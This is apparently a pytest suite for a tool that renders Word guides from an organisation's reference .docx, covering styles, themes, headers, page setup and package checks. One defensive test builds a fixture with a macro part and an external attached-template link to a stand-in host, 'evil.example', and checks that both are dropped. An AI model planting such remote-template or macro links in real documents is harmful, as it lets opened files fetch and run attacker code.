"""Tests of the reference document: our own, and one that an organisation brings."""

import io
import re
import zipfile
from pathlib import Path

import docx
import pytest
from attrs import evolve
from openxml_audit import FileFormat, OpenXmlValidator
from tests.support.guide_reading import NAMES, Guide, W, png, specimen, words_in

from coprod_content.brand.brand import Brand, Logo, ReferenceFiles
from coprod_content.brand.load_brand import load_brand
from coprod_content.document.document import Document, Section
from coprod_guide import render
from coprod_guide.styles.style_names import WordStyle
from coprod_guide.template.reference_document import reference
from coprod_office import packed

BRAND = load_brand()
DAY = "2026-01-01"


def bringing(data: bytes) -> Brand:
    """Return the brand with a reference document of its own."""
    return evolve(BRAND, reference=ReferenceFiles(guide="house.docx"), files=(("house.docx", data),))


def parts_of(data: bytes) -> dict[str, bytes]:
    """Return the parts of a package by name."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def edited(part: str, *changes: tuple[str, str]) -> bytes:
    """Return our reference document with words of a part replaced, as if edited in Word."""
    parts = parts_of(reference(BRAND))
    words = parts[part].decode()
    for pattern, into in changes:
        words, count = re.subn(pattern, into, words)
        assert count, pattern
    return packed(tuple({**parts, part: words.encode()}.items()), DAY)


def test_own_is_complete(tmp_path: object) -> None:
    """Our own reference document is valid, and has exactly the styles that a guide uses."""
    path = f"{tmp_path}/reference.docx"
    with open(path, "wb") as file:
        file.write(reference(BRAND))
    assert OpenXmlValidator(file_format=FileFormat.MICROSOFT_365).validate(path).errors == []
    names = {style.name for style in docx.Document(path).styles}
    assert {style.value.casefold() for style in WordStyle} == {name.casefold() for name in names} - {
        "normal table",
        "no list",
    }


def test_styles_pane_is_tidy() -> None:
    """Built-in styles that a guide does not use stay hidden in Word's styles pane."""
    guide = Guide(reference(BRAND))
    (latent,) = guide.find("//w:latentStyles", "word/styles.xml")
    assert (latent.get(f"{W}defSemiHidden"), latent.get(f"{W}defUnhideWhenUsed")) == ("1", "1")
    assert len(latent) == 0


def test_theme_is_the_brand() -> None:
    """The theme has the palette and the font of the brand."""
    brand = evolve(BRAND, fonts=evolve(BRAND.fonts, office="Verdana & Co"))
    theme = Guide(reference(brand)).part("word/theme/theme1.xml")
    assert set(theme.xpath("//a:latin/@typeface", namespaces=NAMES)) == {"Verdana & Co"}
    assert theme.xpath("//a:accent4/a:srgbClr/@val", namespaces=NAMES) == [BRAND.palette.theme_4[1:].upper()]


def test_sizes_are_the_brand() -> None:
    """Every style has the type sizes of the brand."""
    sizes = evolve(BRAND.guide, cover=40, heading_1=30, heading_2=24, heading_3=20, lead=20, body=18, small=18)
    guide = Guide(reference(evolve(BRAND, guide=sizes)))
    assert min(int(size) for size in guide.find("//w:sz/@w:val", "word/styles.xml")) == 36


def test_house_style_is_kept(tmp_path: object) -> None:
    """An organisation's style ids are used, and its text is dropped."""
    parts = parts_of(edited("word/document.xml", (r"<w:body>", "<w:body><w:p><w:r><w:t>Draft</w:t></w:r></w:p>")))
    parts["word/styles.xml"] = parts["word/styles.xml"].replace(b'"Heading1"', b'"berschrift1"')
    data = render(specimen(), bringing(packed(tuple(parts.items()), DAY)))
    guide = Guide(data)
    assert "Draft" not in guide.words()
    assert guide.headings()[0] == (1, "Run sheet")
    assert guide.paragraphs("berschrift1")
    path = f"{tmp_path}/house.docx"
    with open(path, "wb") as file:
        file.write(data)
    assert OpenXmlValidator(file_format=FileFormat.MICROSOFT_365).validate(path).errors == []


def test_house_header_is_kept() -> None:
    """An organisation's header stays as it is; without one, ours is added."""
    word = docx.Document(io.BytesIO(edited("word/document.xml", (r"<w:(header|footer)Reference [^>]*>", ""))))
    bare = io.BytesIO()
    word.save(bare)
    added = Guide(render(specimen(), bringing(bare.getvalue())))
    assert words_in(added.part("word/running-header.xml")) == specimen().title
    word.sections[0].header.paragraphs[0].text = "Our trust"
    own = io.BytesIO()
    word.save(own)
    kept = Guide(render(specimen(), bringing(own.getvalue())))
    assert "word/running-header.xml" not in kept.names()
    assert words_in(kept.part("word/header1.xml")) == "Our trust"


def test_pictures_in_a_house_header_are_kept(tmp_path: Path) -> None:
    """A picture in an organisation's header is in the guide, and Word finds it."""
    word = docx.Document(io.BytesIO(edited("word/document.xml", (r"<w:(header|footer)Reference [^>]*>", ""))))
    word.sections[0].header.paragraphs[0].add_run().add_picture(io.BytesIO(png()))
    house = io.BytesIO()
    word.save(house)
    branded = evolve(bringing(house.getvalue()), logo=Logo(file="logo.png", alt="Our organisation"))
    data = render(specimen(), evolve(branded, files=(*branded.files, ("logo.png", png()))))
    path = tmp_path / "guide.docx"
    path.write_bytes(data)
    assert OpenXmlValidator(file_format=FileFormat.MICROSOFT_365).validate(path).errors == []
    (picture,) = docx.Document(str(path)).sections[0].header.part.related_parts.values()
    assert picture.blob == png()
    assert {"word/media/image1.png", "word/media/image2.png"} <= set(Guide(data).names())


def test_a_page_without_a_size_is_replaced() -> None:
    """A reference document whose page has no size or margins gets our A4 page."""
    for missing in (r"<w:pgSz [^>]*>", r"<w:pgMar [^>]*>"):
        data = edited("word/document.xml", (missing, ""))
        guide = Guide(render(specimen(), bringing(data)))
        assert (guide.find("//w:pgSz/@w:w"), guide.find("//w:pgMar/@w:left")) == (["11906"], ["1531"])


def test_missing_parts() -> None:
    """A reference document with a relationship to a missing part is refused, and says which part it is."""
    parts = parts_of(reference(BRAND))
    del parts["word/running-header.xml"]
    types = parts["[Content_Types].xml"].decode()
    parts["[Content_Types].xml"] = re.sub(r'<Override PartName="/word/running-header.xml"[^>]*>', "", types).encode()
    with pytest.raises(ValueError, match=r"'house\.docx' cannot be read: it lacks the part .*running-header\.xml"):
        render(specimen(), bringing(packed(tuple(parts.items()), DAY)))


def foreign() -> bytes:
    """Return a document made with other software: US Letter, American English, other lists and ids."""
    word = docx.Document()
    styles = word.styles.element
    have = {style.get(f"{W}styleId") for style in styles}
    carried = styles.xpath("w:style[@w:styleId='ListBullet']//w:numId/@w:val")[0]
    for style in Guide(reference(BRAND)).part("word/styles.xml").findall(f"{W}style"):
        if style.get(f"{W}styleId") not in have:
            for number in style.iter(f"{W}numId"):
                number.set(f"{W}val", carried)
            styles.append(style)
    word.add_paragraph("Draft")
    word.element.body.remove(word.element.body.sectPr)
    out = io.BytesIO()
    word.save(out)
    return out.getvalue()


def test_foreign_reference(tmp_path: object) -> None:
    """A document of other software gets our page, heading lists and language, and loses foreign parts."""
    data = render(specimen(), bringing(foreign()))
    guide = Guide(data)
    assert guide.headings() == Guide(render(specimen(), BRAND)).headings()
    assert guide.find("//w:docDefaults//w:lang/@w:val", "word/styles.xml") == ["en-GB"]
    assert guide.find("//w:pgSz/@w:w") == ["11906"]
    assert "Steps" in guide.find("//w:abstractNum/w:name/@w:val", "word/numbering.xml")
    assert not any("stylesWithEffects" in name or "customXml" in name for name in guide.names())
    path = f"{tmp_path}/foreign.docx"
    with open(path, "wb") as file:
        file.write(data)
    found = OpenXmlValidator(file_format=FileFormat.MICROSOFT_365).validate(path).errors
    assert [error for error in found if error.part_uri != "/word/styles.xml"] == []


def test_reference_without_defaults() -> None:
    """The language is set even if a style sheet has no defaults."""
    data = edited("word/styles.xml", (r"<w:docDefaults>.*</w:docDefaults>", ""))
    guide = Guide(render(specimen(), bringing(data)))
    assert guide.find("/w:styles/*[1]/w:rPrDefault/w:rPr/w:lang/@w:val", "word/styles.xml") == ["en-GB"]


def test_missing_styles_are_added() -> None:
    """A reference document that lacks styles, or the bullets of a list, gets them from ours."""
    changes = ((r'<w:name w:val="(Lead|Say aloud)"/>', r'<w:name w:val="Old \1"/>'),)
    guide = Guide(render(specimen(), bringing(edited("word/styles.xml", *changes))))
    assert {"Lead", "Say aloud", "Old Lead"} <= set(guide.find("//w:style/w:name/@w:val", "word/styles.xml"))
    numbers = (r"<w:numPr><w:ilvl w:val=\"0\"/><w:numId w:val=\"2\"/></w:numPr>", "")
    guide = Guide(render(specimen(), bringing(edited("word/styles.xml", numbers))))
    (added,) = guide.find("//w:style[w:name/@w:val='List Number (workshop)']", "word/styles.xml")
    assert guide.paragraphs(added.get(f"{W}styleId"))


@pytest.mark.parametrize("data", [b"not a zip", packed((("a.txt", b"a"),), DAY)])
def test_no_word_document(data: bytes) -> None:
    """A file that is not a Word document is refused with advice."""
    with pytest.raises(ValueError, match=r"'house\.docx' cannot be read: it is .* save it as \.docx or \.dotx"):
        render(specimen(), bringing(data))


def test_foreign_parts_are_dropped() -> None:
    """Template links and macros of a reference document do not reach a guide."""
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    where = 'Target="http://evil.example/t.dotm" TargetMode="External"'
    external = f'<Relationship Id="rId90" Type="{office}/attachedTemplate" {where}/>'
    macro = f'<Relationship Id="rId91" Type="{office}/vbaProject" Target="vba.bin"/></Relationships>'
    parts = parts_of(edited("word/_rels/document.xml.rels", ("</Relationships>", external + macro)))
    parts["word/vba.bin"] = b"macro"
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"<Override", b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Override', 1
    )
    guide = Guide(render(specimen(), bringing(packed(tuple(parts.items()), DAY))))
    assert not any("vba" in name for name in guide.names())
    assert b"evil.example" not in b"".join(guide.bytes(name) for name in guide.names())


def test_same_guide_from_own_reference() -> None:
    """Our own reference document, brought by an organisation, gives the same text."""
    assert Guide(render(specimen(), bringing(reference(BRAND)))).words() == Guide(render(specimen(), BRAND)).words()


def test_faint_accent() -> None:
    """An accent that is too faint on paper is replaced by the brand's colour."""
    section = Section(title="Sunny", accent="sun")
    guide = Guide(render(Document(title="T", language="en", sections=(section,)), BRAND))
    (heading,) = guide.paragraphs("Heading1")
    colours = heading.xpath("w:pPr/w:pBdr/w:bottom/@w:color", namespaces=NAMES)
    assert colours == [BRAND.palette.brand[1:].upper()]


def test_package_is_a_zip_in_order() -> None:
    """The parts are in a fixed order with fixed dates."""
    with zipfile.ZipFile(io.BytesIO(render(specimen(), BRAND))) as archive:
        assert archive.namelist()[:2] == ["[Content_Types].xml", "_rels/.rels"]
        assert {info.date_time for info in archive.infolist()} == {(2026, 11, 23, 0, 0, 0)}
